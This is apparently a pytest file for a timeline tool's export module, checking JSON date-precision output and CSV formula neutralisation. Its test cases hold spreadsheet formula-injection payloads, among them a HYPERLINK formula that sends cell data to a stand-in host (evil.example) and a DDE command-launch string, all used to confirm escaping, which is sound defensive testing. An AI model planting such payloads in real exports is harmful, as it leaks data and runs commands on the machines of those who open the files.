"""Exports: canonical JSON and formula-safe CSV."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from diplotime import export, schema
from diplotime.pipeline import check_file


@pytest.mark.parametrize(
    ("cell", "numeric", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', False, '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", False, "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", False, "'@SUM(1+1)"),
        ("-2+3", False, "'-2+3"),
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("-33.5", True, "-33.5"),
        ("-2+3", True, "'-2+3"),
        ("Treaty of Shimoda", False, "Treaty of Shimoda"),
        ("", False, ""),
    ],
)
def test_neutralise(cell: str, numeric: bool, expected: str) -> None:
    assert export.neutralise(cell, numeric) == expected


def events_from(csv_text: str) -> pd.DataFrame:
    return check_file(csv_text.encode(), "x.csv").events


def test_json_export_cuts_dates_to_their_precision() -> None:
    events = events_from("date,end_date,title,lat,lon\n1875,,A,,\n1945-08,1945-09,B,46.5,150.5\n2019-01-22,,C,55.75,37.62\n")
    records = json.loads(export.to_json(events))
    assert [(r["date"], r["end_date"], r["date_precision"]) for r in records] == [
        ("1875", "", "year"), ("1945-08", "1945-09", "month"), ("2019-01-22", "", "day")]
    assert list(records[0]) == list(schema.COLUMN_NAMES)
    assert records[0]["lat"] is None and records[1]["lat"] == 46.5


def test_csv_export_neutralises_formulas_and_keeps_negative_coordinates() -> None:
    events = events_from('date,title,actors,lat,lon\n2019-01-22,"=HYPERLINK(""http://x"")",@evil,-33.5,-70.25\n')
    rows = list(csv.DictReader(io.StringIO(export.to_safe_csv(events))))
    assert rows[0]["title"] == "'=HYPERLINK(\"http://x\")"
    assert rows[0]["actors"] == "'@evil"
    assert (rows[0]["lat"], rows[0]["lon"]) == ("-33.5", "-70.25")


def test_exported_csv_reimports_to_the_same_events() -> None:
    events = events_from('date,title,location\n2019-01-22,=1+2,Moscow\n1875,+Treaty,St Petersburg\n')
    again = check_file(export.to_safe_csv(events).encode(), "again.csv").events
    assert list(again["title"]) == ["=1+2", "+Treaty"]
    assert list(again["id"]) == list(events["id"])
